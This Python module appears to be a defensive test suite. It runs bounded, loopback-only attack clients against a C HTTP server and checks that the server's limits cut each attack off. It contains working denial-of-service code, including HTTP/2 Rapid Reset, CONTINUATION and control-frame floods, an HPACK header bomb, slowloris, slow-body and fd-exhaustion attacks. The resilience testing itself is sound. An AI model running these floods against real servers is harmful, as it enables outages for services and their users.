"""The attack cases: each is a bounded client (at most ~12 s, a fixed number of
sockets, loopback only) that does one known harmful thing and reports how the
server answered it. `Case.cut_off` says whether that answer is the one the C
server's limit promises (servers/evloop/README.md, "Limits")."""
from __future__ import annotations

import select
import socket
import struct
import threading
import time
from dataclasses import dataclass, field
from typing import Callable

from attack_wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM,
                         PREFACE, PING, PRIORITY, RST_STREAM, SETTINGS,
                         CANCEL, H2Reader, error_name, frame, get, hpack_indexed,
                         hpack_literal, post_head, request_block, settings)

HOST = "127.0.0.1"
ENHANCE_YOUR_CALM, INTERNAL_ERROR = 0xB, 0x2


@dataclass
class Outcome:
    """What the attacker saw."""
    summary: str                       # one line, for the report
    cut_off: bool                      # the server answered as its limit says
    seconds_to_cut: float | None = None
    detail: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    name: str
    attack: str                        # what the client does
    limit: str                         # the C server's limit that answers it
    run: Callable[[int], Outcome]
    evloop_args: tuple = ()            # flags for the test's server
    rss_growth_mib: float = 64.0       # bound on peak RSS above the baseline
    cpu_s: float = 8.0                 # bound on server CPU during the case
    protocol: str = "h2"               # h1, h2 or h3 (which servers it applies to)
    prlimit_nofile: int | None = None  # start the server with this fd limit
    # work the attack client does before the server is watched (attack_run.run_case), so that its
    # own CPU is not a neighbour of the legitimate client's measurement
    setup: Callable[[], None] | None = None


# ---- helpers ----------------------------------------------------------------

def connect(port: int, rcvbuf: int | None = None) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(5)
    s.connect((HOST, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def h2_connect(port: int, **settings_values: int) -> tuple[socket.socket, H2Reader]:
    s = connect(port)
    s.sendall(PREFACE + settings(**settings_values))
    s.setblocking(False)
    r = H2Reader(s)
    # The reader ACKs the server's SETTINGS when it reads them. Read them
    # here, before the attack starts: an ACK written later could land inside
    # a header block (a CONTINUATION flood) or a half-sent frame, and the
    # server would rightly answer PROTOCOL_ERROR to the client's own mistake.
    if not pump_reader(r, lambda: r.seen.settings > 0, 5):
        raise RuntimeError("the server sent no SETTINGS within 5 s")
    return s, r


def pump_reader(r: H2Reader, until: Callable[[], bool], seconds: float) -> bool:
    """Reads frames until `until()` or EOF or the time is up."""
    end = time.monotonic() + seconds
    while not until() and not r.seen.eof:
        left = end - time.monotonic()
        if left <= 0:
            break
        ready, _, _ = select.select([r.sock], [], [], min(left, 0.1))
        if ready:
            r.feed()
    return until()


def send_while_reading(r: H2Reader, chunks, seconds: float) -> tuple[int, float]:
    """Sends chunks (an iterable of bytes) as fast as the socket takes them,
    reading whatever comes back, until GOAWAY/EOF or time is up. Returns (chunks
    sent, seconds until the server said GOAWAY or closed, or -1)."""
    t0 = time.monotonic()
    sent = 0
    pending = b""
    it = iter(chunks)
    while time.monotonic() - t0 < seconds:
        if r.seen.goaway is not None or r.seen.eof:
            return sent, time.monotonic() - t0
        if not pending:
            try:
                pending = next(it)
                sent += 1
            except StopIteration:
                pump_reader(r, lambda: r.seen.goaway is not None,
                            seconds - (time.monotonic() - t0))
                break
        rd, wr, _ = select.select([r.sock], [r.sock], [], 0.1)
        if rd:
            r.feed()
        if wr and pending:
            try:
                n = r.sock.send(pending)
                pending = pending[n:]
            except BlockingIOError:
                pass
            except OSError:
                r.seen.eof = True
    done = r.seen.goaway is not None or r.seen.eof
    return sent, (time.monotonic() - t0) if done else -1.0


def parallel(n: int, fn: Callable[[int], dict]) -> list[dict]:
    """Runs fn(i) for i < n in threads; returns their results."""
    out: list = [None] * n

    def one(i: int) -> None:
        try:
            out[i] = fn(i)
        except Exception as e:  # noqa: BLE001 -- reported, not hidden
            out[i] = {"error": repr(e)}
    ts = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(30)
    return out


def wait_closed(sock: socket.socket, seconds: float) -> float | None:
    """Seconds until the peer closed (EOF/RST), reading and dropping what
    comes; None if it stayed open."""
    t0 = time.monotonic()
    sock.setblocking(False)
    while time.monotonic() - t0 < seconds:
        ready, _, _ = select.select([sock], [], [], 0.1)
        if ready:
            try:
                if not sock.recv(65536):
                    return time.monotonic() - t0
            except BlockingIOError:
                pass
            except OSError:
                return time.monotonic() - t0
    return None


def goaway_outcome(r: H2Reader, what: str, t: float, sent: int,
                   codes: tuple = (ENHANCE_YOUR_CALM,)) -> Outcome:
    """Cut off = a GOAWAY with one of `codes`."""
    code = r.seen.goaway
    ok = code in codes
    said = f"GOAWAY({error_name(code)})" if code is not None else (
        "closed" if r.seen.eof else "nothing")
    return Outcome(f"{said} after {sent} {what}" +
                   (f" in {t:.2f} s" if t >= 0 else " (not cut off)"),
                   cut_off=code is not None and ok,
                   seconds_to_cut=t if t >= 0 else None,
                   detail={"goaway": code, "sent": sent})


# ---- HTTP/2 floods ----------------------------------------------------------

def rapid_reset(port: int) -> Outcome:
    """CVE-2023-44487: open a stream and cancel it at once, as fast as we can."""
    s, r = h2_connect(port)

    def batches():
        sid = 1
        while sid < (1 << 31) - 400:
            b = bytearray()
            for _ in range(100):
                b += get(sid) + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                sid += 2
            yield bytes(b)
    sent, t = send_while_reading(r, batches(), 10)
    s.close()
    # nghttp2's reset limit says INTERNAL_ERROR (its choice, as upstream's fix)
    return goaway_outcome(r, "batches of 100 HEADERS+RST_STREAM", t, sent,
                          codes=(ENHANCE_YOUR_CALM, INTERNAL_ERROR))


def continuation_flood(port: int) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then
    CONTINUATION frames of new literal fields forever (the 2024 class)."""
    s, r = h2_connect(port)
    first = frame(0x1, 0, 1, request_block(b"GET", b"/ping"))

    def frames():
        yield first
        i = 0
        while True:
            yield frame(CONTINUATION, 0, 1,
                        hpack_literal(b"x-c%d" % i, b"v" * 1000))
            i += 1
    sent, t = send_while_reading(r, frames(), 10)
    s.close()
    return goaway_outcome(r, "frames of one header block", t, sent)


def _flood(port: int, one: bytes, what: str, prelude: bytes = b"") -> Outcome:
    s, r = h2_connect(port)
    if prelude:
        s.setblocking(True)
        s.sendall(prelude)
        s.setblocking(False)
    batch = one * 500
    sent, t = send_while_reading(r, iter(lambda: batch, None), 10)
    s.close()
    return goaway_outcome(r, f"x500 {what}", t, sent)


def ping_flood(port: int) -> Outcome:
    return _flood(port, frame(PING, 0, 0, b"12345678"), "PING")


def settings_flood(port: int) -> Outcome:
    return _flood(port, frame(SETTINGS, 0, 0), "SETTINGS")


def priority_flood(port: int) -> Outcome:
    return _flood(port, frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)),
                  "PRIORITY")


def empty_data_flood(port: int) -> Outcome:
    return _flood(port, frame(DATA, 0, 1), "empty DATA",
                  prelude=post_head(1, b"/echo", None))


def header_list_bomb(port: int) -> Outcome:
    """HPACK amplification: one 4 KiB field into the dynamic table, then a
    header block of nothing but 1-byte references to it (16k of them, 64 MiB
    decoded). The stream must be refused (431), the connection live on."""
    s, r = h2_connect(port)
    s.setblocking(True)
    big = hpack_literal(b"x-bomb", b"b" * 4000, index=True)
    block = request_block(b"GET", b"/ping", big + hpack_indexed(62) * 16000)
    # split into frames of <= 16 KiB (HEADERS + CONTINUATIONs)
    parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    data = frame(0x1, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), 1,
                 parts[0])
    for i, p in enumerate(parts[1:], 1):
        data += frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0,
                      1, p)
    t0 = time.monotonic()
    s.sendall(data + get(3))
    s.setblocking(False)
    pump_reader(r, lambda: {1, 3} <= set(r.seen.statuses) or
                r.seen.goaway is not None, 10)
    t = time.monotonic() - t0
    s.close()
    st1, st3 = r.seen.statuses.get(1), r.seen.statuses.get(3)
    return Outcome(f"bomb stream answered {st1}, next stream {st3}"
                   f"{', GOAWAY(' + error_name(r.seen.goaway) + ')' if r.seen.goaway is not None else ''}"
                   f" in {t:.2f} s",
                   cut_off=st1 == 431 and st3 == 200,
                   seconds_to_cut=t, detail={"status": st1, "next": st3})


# ---- HTTP/2 memory and pace -------------------------------------------------

def zero_window_echo(port: int, conns: int = 8, streams: int = 100,
                     body: int = 4 << 20, seconds: float = 10) -> Outcome:
    """Each connection says SETTINGS_INITIAL_WINDOW_SIZE=0 (it will read no
    response DATA) and uploads `streams` bodies to /echo as fast as the
    server's flow control lets it. The server must stop granting credit once
    it holds its per-connection budget, and reset the stuck streams."""

    def attack(i: int) -> dict:
        s, r = h2_connect(port, initial_window_size=0)
        s.setblocking(True)
        s.sendall(b"".join(post_head(1 + 2 * k, b"/echo", body)
                           for k in range(streams)))
        s.setblocking(False)
        # the server's windows for our uploads: 65535 per connection and
        # SETTINGS_INITIAL_WINDOW_SIZE (1 MiB for evloop) per stream; we
        # assume the RFC default 65535 until WINDOW_UPDATEs say more
        left = {1 + 2 * k: body for k in range(streams)}
        sent = {sid: 0 for sid in left}
        t0 = time.monotonic()
        chunk = b"z" * 16384
        while time.monotonic() - t0 < seconds and not r.seen.eof:
            conn_room = 65535 + r.seen.conn_credit - sum(sent.values())
            can_send = conn_room > 0 and any(
                65535 + r.seen.stream_credit.get(sid, 0) > sent[sid]
                for sid in left if sid not in r.seen.resets)
            # wait for credit (WINDOW_UPDATE) when there is none: no spinning
            rd, wr, _ = select.select([s], [s] if can_send else [], [], 0.05)
            if rd:
                r.feed()
            if not wr:
                continue
            for sid in list(left):
                if sid in r.seen.resets:
                    left.pop(sid)
                    continue
                room = min(conn_room, 65535 + r.seen.stream_credit.get(sid, 0)
                           - sent[sid], left[sid], 16384)
                if room <= 0:
                    continue
                flags = END_STREAM if room == left[sid] else 0
                try:
                    s.send(frame(DATA, flags, sid, chunk[:room]))
                except BlockingIOError:
                    break
                except OSError:
                    r.seen.eof = True
                    break
                sent[sid] += room
                left[sid] -= room
                conn_room -= room
                if not left[sid]:
                    left.pop(sid)
                break    # round-robin: one frame per select
        s.close()
        codes = sorted({error_name(c) for c in r.seen.resets.values()})
        return {"uploaded": sum(sent.values()), "resets": len(r.seen.resets),
                "codes": codes, "statuses": sorted(set(r.seen.statuses.values())),
                "goaway": r.seen.goaway, "eof": r.seen.eof}

    res = parallel(conns, attack)
    bad = [x for x in res if "error" in x]
    up = [x.get("uploaded", 0) for x in res]
    resets = sum(x.get("resets", 0) for x in res)
    codes = sorted({c for x in res for c in x.get("codes", [])})
    statuses = sorted({c for x in res for c in x.get("statuses", [])})
    return Outcome(f"{conns} conns uploaded at most {max(up) / 2**20:.1f} MiB each "
                   f"(offered {streams * body / 2**20:.0f}); {resets} streams reset "
                   f"({', '.join(codes) or 'none'}), statuses {statuses}"
                   + (f"; errors {bad[:1]}" if bad else ""),
                   cut_off=not bad and resets > 0,
                   detail={"uploaded_max": max(up), "resets": resets,
                           "codes": codes})


def h2_slow_body(port: int, streams: int = 50, seconds: float = 8) -> Outcome:
    """50 streams each POST a 100 kB body one byte a second."""
    s, r = h2_connect(port)
    s.setblocking(True)
    s.sendall(b"".join(post_head(1 + 2 * k, b"/echo", 100000)
                       for k in range(streams)))
    s.setblocking(False)
    t0 = time.monotonic()
    cut = None
    while time.monotonic() - t0 < seconds and not r.seen.eof:
        for k in range(streams):
            sid = 1 + 2 * k
            if sid not in r.seen.statuses and sid not in r.seen.resets:
                try:
                    s.send(frame(DATA, 0, sid, b"z"))
                except OSError:
                    break
        pump_reader(r, lambda: False, 1.0)
        if cut is None and len(r.seen.statuses) + len(r.seen.resets) >= streams:
            cut = time.monotonic() - t0
    s.close()
    st = r.seen.statuses
    n408 = sum(1 for v in st.values() if v == 408)
    return Outcome(f"{n408}/{streams} streams answered 408"
                   + (f" within {cut:.1f} s" if cut else "")
                   + (f", GOAWAY({error_name(r.seen.goaway)})"
                      if r.seen.goaway is not None else ""),
                   cut_off=n408 == streams, seconds_to_cut=cut,
                   detail={"408": n408})


# ---- HTTP/1.1 ---------------------------------------------------------------

def _trickle(port: int, prelude: bytes, drip, every: float,
             seconds: float) -> dict:
    """Sends `prelude`, then one piece of `drip` every `every` s, until the
    server answers (a 408) or closes, or `seconds` pass."""
    s = connect(port)
    s.sendall(prelude)
    s.settimeout(every)
    t0 = time.monotonic()
    for piece in drip:
        if time.monotonic() - t0 > seconds:
            break
        try:
            s.send(piece)
            data = s.recv(4096)     # an answer or EOF: we were cut off
            s.close()
            return {"closed": time.monotonic() - t0,
                    "answer": data[:12].decode(errors="replace") or "EOF"}
        except socket.timeout:
            pass
        except OSError:
            s.close()
            return {"closed": time.monotonic() - t0, "answer": "reset"}
    s.close()
    return {"closed": None}


def slowloris(port: int, conns: int = 50, seconds: float = 10) -> Outcome:
    """50 connections send a request head one byte every 0.5 s."""
    head = b"GET /ping HTTP/1.1\r\nHost: localhost\r\n" + b"X-Slow: " + b"a" * 500
    return _h1_closed_outcome(parallel(conns, lambda i: _trickle(
        port, b"", (bytes([b]) for b in head), 0.5, seconds)), conns, "slow heads")


def slow_body(port: int, conns: int = 50, seconds: float = 10) -> Outcome:
    """50 connections POST a 100 kB body one byte a second."""
    head = (b"POST /echo HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Length: 100000\r\n\r\n")
    return _h1_closed_outcome(parallel(conns, lambda i: _trickle(
        port, head, iter(lambda: b"z", None), 1.0, seconds)), conns, "slow bodies")


def _h1_closed_outcome(res: list[dict], conns: int, what: str) -> Outcome:
    closed = [x["closed"] for x in res if x.get("closed") is not None]
    answers = sorted({x.get("answer", "") for x in res if x.get("closed")})
    return Outcome(f"{len(closed)}/{conns} {what} cut off"
                   + (f" after {min(closed):.1f}-{max(closed):.1f} s" if closed else "")
                   + (f", answers {answers}" if answers else ""),
                   cut_off=len(closed) == conns,
                   seconds_to_cut=max(closed) if closed else None,
                   detail={"answers": answers})


def pipeline_no_read(port: int, conns: int = 8, seconds: float = 10) -> Outcome:
    """8 connections pipeline 4000 GET /echo?size=1048576 (4 GB of answers) and
    POST 64 KiB bodies, and never read: the server must stop reading and, once
    the peer has taken nothing for its send timeout, close."""
    req = (b"GET /echo?size=1048576 HTTP/1.1\r\nHost: x\r\n\r\n"
           b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 65536\r\n\r\n"
           + b"p" * 65536)

    def one(i: int) -> dict:
        s = connect(port, rcvbuf=4096)
        s.setblocking(False)
        t0 = time.monotonic()
        sent = 0
        while time.monotonic() - t0 < seconds:
            _, wr, _ = select.select([], [s], [], 0.1)
            if wr and sent < 4000:
                try:
                    s.send(req)
                    sent += 1
                except BlockingIOError:
                    pass
                except OSError:
                    break
            # a closed connection shows as an error on send, or, once our
            # send buffer is full, as RST/EOF visible through SO_ERROR
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                break
            try:
                # peek without consuming: EOF only counts, data stays unread
                if s.recv(1, socket.MSG_PEEK) == b"":
                    break
            except BlockingIOError:
                pass
            except OSError:
                break
        t = time.monotonic() - t0
        s.close()
        return {"closed": t if t < seconds else None, "sent": sent}
    res = parallel(conns, one)
    return _h1_closed_outcome(res, conns, "non-reading pipeliners")


def idle_crowd(port: int, conns: int = 2000, seconds: float = 6) -> Outcome:
    """2000 connections that connect and say nothing, on a server whose
    --max-conns is lower: the server must keep serving (closing idle ones to
    make room) and its memory must stay flat."""
    socks = []
    for _ in range(conns):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((HOST, port))
            socks.append(s)
        except OSError:
            break
    time.sleep(seconds)
    closed = 0
    for s in socks:
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return Outcome(f"{len(socks)} idle connections opened, {closed} closed by the "
                   f"server within {seconds:.0f} s",
                   cut_off=closed >= len(socks) - 1000 and closed > 0,
                   detail={"opened": len(socks), "closed": closed})


def idle_keepalive(port: int, conns: int = 200, seconds: float = 6) -> Outcome:
    """200 connections make one request each, then idle: the idle keep-alive
    timeout must close them."""
    def one(i: int) -> dict:
        s = connect(port)
        s.sendall(b"GET /ping HTTP/1.1\r\nHost: x\r\n\r\n")
        s.recv(4096)
        t = wait_closed(s, seconds)
        s.close()
        return {"closed": t, "answer": "EOF" if t is not None else ""}
    return _h1_closed_outcome(parallel(conns, one), conns, "idle keep-alive connections")


def fd_exhaustion(port: int, conns: int = 400, seconds: float = 5) -> Outcome:
    """More connections than the server has fds (it runs under a low
    RLIMIT_NOFILE): accept fails with EMFILE, which must back off rather than
    spin on a listener that stays readable. The CPU bound is the check."""
    socks = []
    for _ in range(conns):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((HOST, port))
        socks.append(s)
    time.sleep(seconds)
    for s in socks:
        s.close()
    return Outcome(f"{conns} connections held for {seconds:.0f} s against a server "
                   f"with fewer fds", cut_off=True, detail={"held": conns})


def _mib(n: int) -> int:
    return n << 20


CASES = [
    Case("h2_zero_window_echo",
         "8 connections advertise a zero receive window and upload 100 x 4 MiB "
         "bodies each to /echo",
         "--h2-conn-memory (credit withheld), --send-timeout (RST_STREAM CANCEL), "
         "--body-timeout (408)",
         zero_window_echo,
         evloop_args=("--max-body", str(_mib(4)), "--send-timeout", "3000",
                      "--body-timeout", "3000"),
         rss_growth_mib=8 * (4 + 4) + 48, cpu_s=8),
    Case("h2_rapid_reset", "HEADERS + RST_STREAM pairs, as fast as possible",
         "--h2-reset-burst / --h2-reset-rate (GOAWAY)", rapid_reset, cpu_s=5),
    Case("h2_continuation_flood", "one header block continued forever",
         "--h2-max-continuations (GOAWAY)", continuation_flood, cpu_s=3),
    Case("h2_ping_flood", "PING frames as fast as possible, acks read",
         "--h2-flood-burst / --h2-flood-rate (GOAWAY ENHANCE_YOUR_CALM)",
         ping_flood, cpu_s=3),
    Case("h2_settings_flood", "empty SETTINGS frames as fast as possible",
         "--h2-flood-burst / --h2-flood-rate (GOAWAY ENHANCE_YOUR_CALM)",
         settings_flood, cpu_s=3),
    Case("h2_priority_flood", "PRIORITY frames as fast as possible",
         "--h2-flood-burst / --h2-flood-rate (GOAWAY ENHANCE_YOUR_CALM)",
         priority_flood, cpu_s=3),
    Case("h2_empty_data_flood", "empty DATA frames on an open upload",
         "--h2-flood-burst / --h2-flood-rate (GOAWAY ENHANCE_YOUR_CALM)",
         empty_data_flood, cpu_s=3),
    Case("h2_header_list_bomb",
         "HPACK amplification: 16,000 references to a 4 KiB field (64 MiB decoded)",
         "--h2-max-header-list (431 on the stream)", header_list_bomb, cpu_s=3),
    Case("h2_slow_body", "50 streams upload one byte a second",
         "--body-timeout / --body-min-rate (408 per stream)", h2_slow_body,
         evloop_args=("--body-timeout", "2000"), cpu_s=3),
    Case("h1_slowloris", "50 connections send a head one byte every 0.5 s",
         "--header-timeout (408, close)", slowloris,
         evloop_args=("--header-timeout", "2000"), protocol="h1", cpu_s=3),
    Case("h1_slow_body", "50 connections upload a body one byte a second",
         "--body-timeout / --body-min-rate (408, close)", slow_body,
         evloop_args=("--body-timeout", "2000"), protocol="h1", cpu_s=3),
    Case("h1_pipeline_no_read",
         "8 connections pipeline 4000 large-answer requests and never read",
         "output high-water mark (reading stops), --send-timeout (close)",
         pipeline_no_read, evloop_args=("--send-timeout", "3000"),
         protocol="h1", cpu_s=5),
    Case("h1_idle_keepalive", "200 keep-alive connections go idle after one request",
         "--idle-timeout (close)", idle_keepalive,
         evloop_args=("--idle-timeout", "2000"), protocol="h1", cpu_s=2),
    Case("idle_crowd", "2000 connections that connect and send nothing",
         "--max-conns (idle ones closed to make room), --header-timeout",
         idle_crowd, evloop_args=("--max-conns", "500", "--header-timeout", "3000"),
         protocol="h1", rss_growth_mib=64, cpu_s=3),
    Case("fd_exhaustion", "400 connections against a server limited to 128 fds",
         "accept back-off on EMFILE (no busy loop)", fd_exhaustion,
         protocol="h1", prlimit_nofile=128, cpu_s=1.0),
]
